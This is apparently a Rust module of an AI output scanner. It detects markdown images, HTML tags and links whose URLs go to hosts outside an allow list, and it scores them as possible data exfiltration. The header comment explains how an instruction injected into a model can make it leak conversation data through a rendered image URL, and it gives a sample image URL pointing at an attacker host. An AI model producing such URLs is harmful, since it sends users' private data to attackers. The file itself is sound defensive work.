//! Exfiltration through the output: a rendered markdown image or HTML image is fetched by the
//! client without a click, so an injected instruction can make the model send conversation
//! data to an attacker's host in the image URL (`![](https://evil.example/p?q=<data>)`).
//! Links and bare URLs need a click but can carry data the same way.
//!
//! Findings, for URLs whose host is not in `allow_domains` (suffix match on whole labels):
//! - `exfiltration.markdown_image` (inline `![..](url)` or reference `![..][ref]`), score 1;
//! - `exfiltration.html_image` (`<img src>`, and other tags that load on render: `iframe`,
//!   `script`, `link`, `video`, `audio`, `source`, `embed`, `object`), score 1;
//! - `exfiltration.link` (markdown links, `<a href>`, bare URLs), score 0.7 when the URL
//!   carries data, else 0.3. Data: a query value or path segment that is a URL-encoded
//!   sentence or text encoded as base64 or hex; or a query value that is long or a random
//!   blob. Slugs, hashes, UUIDs and identifiers do not count.
//!
//! URLs without a host (relative, `data:`, `mailto:`) are not reported.

use regex::Regex;
use serde::Deserialize;

use crate::scan::{Finding, Scan, ScanError, ScanInput, Scanner};
use url::{parse_url, trim_url_end, url_carries_data};

#[cfg(test)]
mod tests;
mod url;

/// The exfiltration check, as written in a policy.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ExfiltrationConfig {
    /// Allowed hosts; `example.com` also allows `cdn.example.com` (not `badexample.com`).
    #[serde(default)]
    pub allow_domains: Vec<String>,
    /// Also report links and bare URLs, not only images (default true).
    #[serde(default = "default_true")]
    pub links: bool,
}

fn default_true() -> bool {
    true
}

impl Default for ExfiltrationConfig {
    fn default() -> Self {
        Self {
            allow_domains: Vec::new(),
            links: true,
        }
    }
}

/// The exfiltration scanner (kind `exfiltration`).
#[derive(Debug)]
pub struct ExfiltrationScanner {
    allow: Vec<String>,
    links: bool,
    patterns: Patterns,
}

const IMAGE_SCORE: f32 = 1.0;
const DATA_LINK_SCORE: f32 = 0.7;
const LINK_SCORE: f32 = 0.3;

#[derive(Debug)]
struct Patterns {
    md_inline: Regex,
    md_ref_image: Regex,
    md_ref_def: Regex,
    html: Regex,
    bare: Regex,
}

impl Patterns {
    fn new() -> Result<Self, String> {
        let re = |p: &str| Regex::new(p).map_err(|e| format!("exfiltration pattern: {e}"));
        Ok(Self {
            // `[text](url "title")` with an optional `!` in front.
            md_inline: re(
                r#"(!?)\[[^\]\n]{0,1000}\]\(\s*<?([^\s<>()]+(?:\([^\s()]*\)[^\s<>()]*)*)>?(?:\s+(?:"[^"\n]*"|'[^'\n]*'))?\s*\)"#,
            )?,
            md_ref_image: re(r"!\[([^\]\n]{0,1000})\]\[([^\]\n]{0,200})\]")?,
            md_ref_def: re(r"(?m)^[ \t]{0,3}\[([^\]\n]{1,200})\]:[ \t]*<?(\S+?)>?(?:[ \t]|$)")?,
            html: re(
                r#"(?is)<(img|iframe|script|link|video|audio|source|embed|object|input|a)\b[^>]*?\b(src|href|data|poster|srcset)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))"#,
            )?,
            bare: re(
                r#"(?i)(?:\b(?:https?|ftp|wss?)://|(?:^|[\s(])//[a-z0-9])[^\s<>"'`\]\[{}|\\^]+"#,
            )?,
        })
    }
}

impl ExfiltrationScanner {
    pub fn new(c: &ExfiltrationConfig) -> Result<Self, String> {
        let mut allow = Vec::new();
        for d in &c.allow_domains {
            let d = d
                .trim()
                .trim_start_matches("*.")
                .trim_matches('.')
                .to_ascii_lowercase();
            if d.is_empty() || d.contains(['/', ':', ' ']) {
                return Err(format!("allow_domains entry {d:?} is not a host name"));
            }
            allow.push(d);
        }
        Ok(Self {
            allow,
            links: c.links,
            patterns: Patterns::new()?,
        })
    }

    fn allowed(&self, host: &str) -> bool {
        self.allow.iter().any(|d| {
            host == d
                || host
                    .strip_suffix(d.as_str())
                    .is_some_and(|p| p.ends_with('.'))
        })
    }

    /// A finding for `url` at `start..end`, if its host is not allowed.
    fn judge(&self, kind: &'static str, url: &str, start: usize, end: usize) -> Option<Finding> {
        let parts = parse_url(url)?;
        if self.allowed(&parts.host) {
            return None;
        }
        let score = match kind {
            "exfiltration.link" if url_carries_data(&parts) => DATA_LINK_SCORE,
            "exfiltration.link" => LINK_SCORE,
            _ => IMAGE_SCORE,
        };
        Some(Finding::new(kind, start, end, score))
    }
}

impl Scanner for ExfiltrationScanner {
    fn kind(&self) -> &'static str {
        "exfiltration"
    }

    fn scan(&self, input: &ScanInput<'_>) -> Result<Scan, ScanError> {
        let text = input.text;
        // Every URL with a host has `//` in it.
        if !text.contains("//") {
            return Ok(Scan::clean());
        }
        let p = &self.patterns;
        let mut findings = Vec::new();
        // Spans already judged (allowed or not), so bare-URL matching skips them.
        let mut seen: Vec<(usize, usize)> = Vec::new();
        let mut push =
            |f: Option<Finding>, span: (usize, usize), seen: &mut Vec<(usize, usize)>| {
                seen.push(span);
                findings.extend(f);
            };
        for c in p.md_inline.captures_iter(text) {
            let (Some(all), Some(url)) = (c.get(0), c.get(2)) else {
                continue;
            };
            let image = c.get(1).is_some_and(|m| !m.is_empty());
            if !image && !self.links {
                seen.push((all.start(), all.end()));
                continue;
            }
            let kind = if image {
                "exfiltration.markdown_image"
            } else {
                "exfiltration.link"
            };
            push(
                self.judge(kind, url.as_str(), all.start(), all.end()),
                (all.start(), all.end()),
                &mut seen,
            );
        }
        let defs: Vec<(String, &str, usize, usize)> = p
            .md_ref_def
            .captures_iter(text)
            .filter_map(|c| {
                let all = c.get(0)?;
                Some((
                    c.get(1)?.as_str().trim().to_lowercase(),
                    c.get(2)?.as_str(),
                    all.start(),
                    all.end(),
                ))
            })
            .collect();
        for c in p.md_ref_image.captures_iter(text) {
            let (Some(all), Some(alt), Some(label)) = (c.get(0), c.get(1), c.get(2)) else {
                continue;
            };
            let label = if label.as_str().trim().is_empty() {
                alt.as_str()
            } else {
                label.as_str()
            };
            let label = label.trim().to_lowercase();
            if let Some((_, url, ..)) = defs.iter().find(|d| d.0 == label) {
                push(
                    self.judge("exfiltration.markdown_image", url, all.start(), all.end()),
                    (all.start(), all.end()),
                    &mut seen,
                );
            }
        }
        for (_, url, start, end) in &defs {
            let f = if self.links {
                self.judge("exfiltration.link", url, *start, *end)
            } else {
                None
            };
            push(f, (*start, *end), &mut seen);
        }
        for c in p.html.captures_iter(text) {
            let Some(all) = c.get(0) else { continue };
            let url = c
                .get(3)
                .or(c.get(4))
                .or(c.get(5))
                .map_or("", |m| m.as_str());
            let tag = c.get(1).map_or("", |m| m.as_str());
            let kind = if tag.eq_ignore_ascii_case("a") {
                "exfiltration.link"
            } else {
                "exfiltration.html_image"
            };
            if kind == "exfiltration.link" && !self.links {
                seen.push((all.start(), all.end()));
                continue;
            }
            // srcset lists "url 1x, url 2x": judge each candidate.
            let f = url
                .split(',')
                .filter_map(|candidate| candidate.split_whitespace().next())
                .filter_map(|u| self.judge(kind, u, all.start(), all.end()))
                .max_by(|a, b| a.score.total_cmp(&b.score));
            push(f, (all.start(), all.end()), &mut seen);
        }
        if self.links {
            for m in p.bare.find_iter(text) {
                let start = m.start()
                    + m.as_str()
                        .find(|c: char| c != '(' && !c.is_whitespace())
                        .unwrap_or(0);
                let url = trim_url_end(&text[start..m.end()]);
                let end = start + url.len();
                if seen.iter().any(|&(s, e)| start < e && s < end) {
                    continue;
                }
                findings.extend(self.judge("exfiltration.link", url, start, end));
            }
        }
        findings.sort_by_key(|f| f.start);
        Ok(Scan::from_findings(findings))
    }
}
